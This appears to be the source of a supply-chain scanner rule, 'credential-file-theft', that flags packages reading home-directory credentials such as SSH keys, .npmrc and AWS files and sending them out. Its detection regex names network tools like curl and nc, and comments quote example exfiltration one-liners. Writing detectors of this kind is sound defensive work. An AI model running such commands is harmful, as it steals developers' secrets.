import { flowOf, L } from '../src/analyze/flow.ts'
import { classifyPath } from '../src/analyze/sensitive-paths.ts'
import { destinationOf, isShadyDestination, locate, whenRuns, type Location } from '../src/analyze/sinks.ts'
import { defineRule, type Severity } from '../src/types.ts'

const NETWORK_TOOL = /\b(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/i

/** Credential families: several files of one tool (the AWS SDK reading ~/.aws/credentials and ~/.aws/config) count once. */
function familyOf(target: string): string {
  if (/SSH/.test(target)) return 'ssh'
  if (/AWS/.test(target)) return 'aws'
  if (/npmrc|yarnrc/.test(target)) return 'npm'
  if (/git-credentials|gitconfig|GitHub/.test(target)) return 'git'
  if (/shell history/.test(target)) return 'history'
  if (/passwd|shadow/.test(target)) return 'system'
  return target
}

/**
 * Developer and system credentials read from the home directory (or /etc): `.npmrc`, `.ssh/`,
 * `.aws/credentials`, `.git-credentials`, `.docker/config.json`, `.kube/config`, `.config/gh`,
 * `.env`, shell history; critical when their content goes to a hard-coded or shady destination.
 */
export default defineRule({
  meta: {
    id: 'credential-file-theft',
    severity: 'high',
    description: 'Credential files (.npmrc, SSH keys, cloud credentials, .env) are read from the home directory and sent',
    docs: 'rules/credential-file-theft.md',
  },
  create(context) {
    const reads: Array<{ where: Location; targets: string[] }> = []
    const sends: Array<{ where: Location; destination: ReturnType<typeof destinationOf> }> = []
    let networkFiles = 0
    let literals: string[] = []
    const literalTargets = () => {
      const out = new Set<string>()
      for (const value of literals) for (const x of classifyPath(value)) if (x.kind === 'credential') out.add(x.target)
      return [...out]
    }
    return {
      Program() {
        literals = []
      },
      StringLiteral(node) {
        // Credential names written as separate constants (['/.ssh/id_rsa', '/.aws/credentials'].map(read)),
        // classified only when a read needs them
        const v = node.value
        if (v.length > 200 || v.length < 4 || literals.length >= 1000 || (v.charCodeAt(0) !== 46 && v.charCodeAt(0) !== 47 && !v.includes('/.'))) return
        literals.push(v)
      },
      'Program:exit'(program, ctx) {
        const file = ctx.file
        if (!file) return
        const flow = flowOf(program, ctx)
        if (flow.network.length > 0) networkFiles++
        for (const event of flow.files) {
          if (event.kind !== 'read' || event.probe || (event.pathTaint & L.P_CRED) === 0) continue
          const fromHome = (event.pathTaint & L.HOMEDIR) !== 0 || event.pathText.startsWith('~') || event.pathText.startsWith('/etc/')
          if (!fromHome) continue
          let targets = classifyPath(event.pathText).filter((x) => x.kind === 'credential').map((x) => x.target)
          if (targets.length === 0) targets = literalTargets()
          reads.push({ where: locate(file, event.node), targets: targets.length > 0 ? targets : ['a credential file'] })
        }
        // curl -d @~/.npmrc http://…, cat ~/.ssh/id_rsa | nc host 80: a command that reads and sends
        for (const event of flow.exec) {
          if (event.family !== 'process' || !NETWORK_TOOL.test(event.text)) continue
          const targets = classifyPath(event.text).filter((x) => x.kind === 'credential').map((x) => x.target)
          if (targets.length === 0 || !/~|\/etc\/|\$HOME|%USERPROFILE%/.test(event.text)) continue
          reads.push({ where: locate(file, event.node), targets })
          sends.push({ where: locate(file, event.node), destination: { kind: 'static', detail: 'the network by a shell command' } })
        }
        // Secret-looking environment variables (NPM_TOKEN, AWS_SECRET_ACCESS_KEY …) to a shady host
        for (const event of flow.network) {
          if ((event.taint & L.ENVKEY) === 0 || (event.taint & L.CRED) !== 0) continue
          const destination = destinationOf(event.url)
          if (!isShadyDestination(destination.kind)) continue
          reads.push({ where: locate(file, event.node), targets: ['secret environment variables'] })
          sends.push({ where: locate(file, event.node), destination })
        }
        for (const event of flow.network) {
          if ((event.taint & L.CRED) === 0) continue
          const destination = destinationOf(event.url)
          if (destination.kind === 'local') continue
          sends.push({ where: locate(file, event.node), destination })
        }
      },
      'Package:exit'() {
        if (reads.length === 0 && sends.length === 0) return
        const targets = [...new Set(reads.flatMap((r) => r.targets))]
        const families = new Set(targets.map(familyOf))
        const list = targets.join(', ')
        const send = sends.find((s) => s.destination.kind !== 'dynamic' && s.destination.kind !== 'registry') ?? sends[0]
        const first = send?.where ?? reads[0]!.where
        let severity: Severity
        let message: string
        if (send && send.destination.kind !== 'dynamic' && send.destination.kind !== 'registry') {
          severity = 'critical'
          message = `Credentials (${list || 'credential file content'}) are read and sent to ${send.destination.detail}${isShadyDestination(send.destination.kind) ? '' : ', a hard-coded destination'}.`
        } else if (send) {
          severity = 'medium'
          message = `Credential content (${list || 'a credential file'}) is sent to ${send.destination.detail}; fine for a client authenticating to a configured service, theft otherwise.`
        } else if (families.size >= 3) {
          severity = networkFiles > 0 ? 'critical' : 'high'
          message = `Sweeps ${families.size} kinds of credentials from the home directory (${list})${networkFiles > 0 ? ' in a package that also sends data over the network' : ''}.`
        } else {
          severity = 'low'
          message = `Reads ${list} from the home directory.`
        }
        context.report({ file: first.file, line: first.line, column: first.column, snippet: first.snippet, entryKind: first.entryKind, severity, message: message + whenRuns(first) })
      },
    }
  },
})
